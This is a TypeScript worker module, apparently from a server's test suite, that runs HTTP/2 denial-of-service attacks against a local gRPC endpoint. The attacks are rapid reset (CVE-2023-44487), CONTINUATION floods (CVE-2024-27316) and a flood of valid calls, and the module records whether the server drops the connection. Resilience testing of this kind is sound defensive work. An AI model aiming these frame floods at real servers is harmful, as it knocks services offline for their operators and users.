import { parentPort, workerData } from "node:worker_threads";
import { rawCall, rawSession } from "@interlock/bot/testing";
import { closeOf } from "./close-of.js";
import { callHeaders, connectRaw, flag, frame, frameType, headerBlock } from "./raw-http2.js";

/** The input of an attacker, which runs in a thread of its own, so that its work does not slow the server. */
export interface Assault {
  readonly kind: keyof typeof assaults;
  readonly port: number;
  readonly path: string;
  /** Key and certificate, PEM. */
  readonly key: string;
  readonly cert: string;
}

/** The result of an attack. */
export interface Outcome {
  /** Whether the server closed the connection before the attacker had finished. */
  readonly closed: boolean;
  /** The number of calls or frames that were sent. */
  readonly sent: number;
  /** The numbers of answers by gRPC status; `none` for calls without an answer. */
  readonly statuses: Readonly<Record<string, number>>;
}

const most = 30_000;

const assaults = {
  /** Opens streams and resets them at once (CVE-2023-44487). */
  rapidReset: (assault: Assault) =>
    framesOf(assault, (i) => {
      const stream = 2 * i + 1;
      const block = headerBlock(callHeaders(assault.path));
      const cancel = Buffer.of(0, 0, 0, 8);
      return Buffer.concat([
        frame(frameType.headers, flag.endHeaders, stream, block),
        frame(frameType.rstStream, 0, stream, cancel),
      ]);
    }),

  /** Headers that never end (CVE-2024-27316 and its like). */
  continuation: (assault: Assault) =>
    framesOf(assault, (i) =>
      i === 0
        ? frame(frameType.headers, 0, 1, headerBlock(callHeaders(assault.path)))
        : frame(frameType.continuation, 0, 1, headerBlock([[`x-${i}`, "a".repeat(1_000)]])),
    ),

  /** The same with empty frames. */
  emptyContinuation: (assault: Assault) =>
    framesOf(assault, (i) =>
      i === 0
        ? frame(frameType.headers, 0, 1, headerBlock(callHeaders(assault.path)))
        : frame(frameType.continuation, 0, 1),
    ),

  /** Valid calls, as many as possible. */
  async goodCalls({ port, path, key, cert }: Assault): Promise<Outcome> {
    const session = rawSession(port, { key, cert });
    const statuses: Record<string, number> = {};
    let sent = 0;
    async function keepCalling(): Promise<void> {
      while (sent < most && !session.closed && !session.destroyed) {
        sent++;
        const { status = "none" } = await rawCall(session, path).catch(() => ({ status: undefined }));
        statuses[status] = (statuses[status] ?? 0) + 1;
      }
    }
    // When the connection ends, a call may never be notified, and now and then neither is the session.
    const ended = closeOf(session).then(() => new Promise((resolve) => setTimeout(resolve, 500)));
    const silence = silenceOf(() => Object.values(statuses).reduce((sum, count) => sum + count, 0));
    await Promise.race([Promise.all(Array.from({ length: 200 }, keepCalling)), ended, silence]);
    const closed = session.destroyed || session.closed;
    session.destroy();
    return { closed, sent, statuses };
  },
};

/** Resolves when a count has not changed for two seconds. */
function silenceOf(count: () => number): Promise<void> {
  return new Promise((resolve) => {
    let before = -1;
    const timer = setInterval(() => {
      const now = count();
      if (now === before) {
        clearInterval(timer);
        resolve();
      }
      before = now;
    }, 2_000);
  });
}

/**
 * Writes frames until the server reacts: it closes, or it sends GOAWAY. After that Node reads nothing more from the
 * connection, and grpc-js closes it when its keepalive is not answered.
 */
async function framesOf({ port, key, cert }: Assault, frameOf: (i: number) => Buffer): Promise<Outcome> {
  const connection = await connectRaw(port, { key, cert });
  let sent = 0;
  let enough = false;
  const over = Promise.race([connection.closed, connection.sentAway]).then(() => (enough = true));
  while (sent < most && !enough) {
    await Promise.race([connection.write(frameOf(sent)), over]);
    sent++;
  }
  // The last frames may still be on their way.
  const late = new Promise<void>((resolve) => setTimeout(resolve, 5_000).unref());
  await Promise.race([over, late]);
  connection.destroy();
  return { closed: enough, sent, statuses: {} };
}

if (parentPort) {
  const assault = workerData as Assault;
  parentPort.postMessage(await assaults[assault.kind](assault));
}
